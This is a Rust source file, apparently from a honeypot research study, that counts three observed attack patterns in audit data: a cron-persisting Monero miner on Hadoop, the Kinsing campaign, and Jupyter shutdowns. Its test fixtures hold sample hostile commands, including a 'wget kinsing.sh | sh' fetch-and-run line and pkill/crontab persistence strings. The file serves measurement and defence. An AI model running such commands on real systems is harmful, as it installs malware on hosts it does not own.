@@ -1,0 +1,148 @@
+//! RQ4's qualitative findings: the three attack case studies the paper
+//! narrates, extracted mechanically from the study's audit data.
+//!
+//! 1. A Monero cryptominer on Hadoop that kills competing malware and
+//!    persists via a cronjob (observed four times from two addresses).
+//! 2. The Kinsing campaign, historically Docker-focused, now also
+//!    spreading to Hadoop.
+//! 3. A vigilante who repeatedly shuts down the Jupyter Lab honeypot.
+
+use crate::render::Table;
+use nokeys_apps::AppId;
+use nokeys_honeypot::StudyResult;
+use std::collections::BTreeSet;
+use std::net::Ipv4Addr;
+
+/// Attacks whose payload installs a cronjob and kills competitors.
+pub fn miner_with_persistence(result: &StudyResult) -> (usize, usize) {
+    let matching: Vec<_> = result
+        .attacks
+        .iter()
+        .filter(|a| {
+            a.app == AppId::Hadoop
+                && a.payloads
+                    .iter()
+                    .any(|p| p.contains("crontab") && p.contains("pkill"))
+        })
+        .collect();
+    let ips: BTreeSet<Ipv4Addr> = matching.iter().map(|a| a.source).collect();
+    (matching.len(), ips.len())
+}
+
+/// Kinsing-payload attack counts per application (the campaign's
+/// spread).
+pub fn kinsing_spread(result: &StudyResult) -> Vec<(AppId, usize)> {
+    let mut out = Vec::new();
+    for app in [AppId::Docker, AppId::Hadoop] {
+        let n = result
+            .attacks_on(app)
+            .filter(|a| a.payloads.iter().any(|p| p.contains("kinsing")))
+            .count();
+        out.push((app, n));
+    }
+    out
+}
+
+/// The vigilante's shutdowns of Jupyter Lab.
+pub fn vigilante_shutdowns(result: &StudyResult) -> usize {
+    result
+        .attacks_on(AppId::JupyterLab)
+        .filter(|a| a.payloads.iter().any(|p| p == "shutdown"))
+        .count()
+}
+
+/// Build the case-study table.
+pub fn build(result: &StudyResult) -> Table {
+    let mut t = Table::new(
+        "RQ4 case studies (paper: cron-persisting miner, Kinsing spreading to Hadoop, a vigilante)",
+        &["Case", "Observation"],
+    );
+    let (miner_attacks, miner_ips) = miner_with_persistence(result);
+    t.row(&[
+        "Monero miner with cron persistence on Hadoop".to_string(),
+        format!("{miner_attacks} attacks from {miner_ips} addresses (paper: 4 from 2)"),
+    ]);
+    for (app, n) in kinsing_spread(result) {
+        t.row(&[
+            format!("Kinsing-campaign attacks on {}", app.name()),
+            format!("{n} attacks"),
+        ]);
+    }
+    t.row(&[
+        "Vigilante shutdowns of Jupyter Lab".to_string(),
+        format!(
+            "{} (each takes the service down until restore)",
+            vigilante_shutdowns(result)
+        ),
+    ]);
+    t
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use nokeys_honeypot::detect::Attack;
+    use nokeys_netsim::SimTime;
+
+    fn attack(app: AppId, ip: [u8; 4], payload: &str) -> Attack {
+        Attack {
+            app,
+            source: Ipv4Addr::from(ip),
+            start: SimTime(0),
+            end: SimTime(0),
+            payloads: vec![payload.to_string()],
+        }
+    }
+
+    fn fixture() -> StudyResult {
+        // Build a minimal StudyResult through the public study runner is
+        // expensive; construct the attacks list directly instead.
+        StudyResult {
+            plan: nokeys_attack::study_plan(1),
+            records: Vec::new(),
+            attacks: vec![
+                attack(
+                    AppId::Hadoop,
+                    [1, 0, 0, 1],
+                    "pkill -f kdevtmpfsi; (crontab -l) | crontab -",
+                ),
+                attack(
+                    AppId::Hadoop,
+                    [1, 0, 0, 2],
+                    "pkill -f kinsing; crontab something",
+                ),
+                attack(AppId::Hadoop, [1, 0, 0, 3], "wget kinsing.sh | sh"),
+                attack(AppId::Docker, [1, 0, 0, 4], "run /tmp/kinsing"),
+                attack(AppId::JupyterLab, [1, 0, 0, 5], "shutdown"),
+                attack(AppId::JupyterLab, [1, 0, 0, 5], "ls"),
+            ],
+            actors: Vec::new(),
+            restores: Vec::new(),
+        }
+    }
+
+    #[test]
+    fn miner_detection_requires_cron_and_kill() {
+        let (attacks, ips) = miner_with_persistence(&fixture());
+        assert_eq!(attacks, 2);
+        assert_eq!(ips, 2);
+    }
+
+    #[test]
+    fn kinsing_counts_per_app() {
+        let spread = kinsing_spread(&fixture());
+        assert_eq!(spread, vec![(AppId::Docker, 1), (AppId::Hadoop, 2)]);
+    }
+
+    #[test]
+    fn vigilante_counting() {
+        assert_eq!(vigilante_shutdowns(&fixture()), 1);
+    }
+
+    #[test]
+    fn table_renders() {
+        let out = build(&fixture()).render();
+        assert!(out.contains("Monero miner"));
+        assert!(out.contains("Vigilante"));
+    }
+}
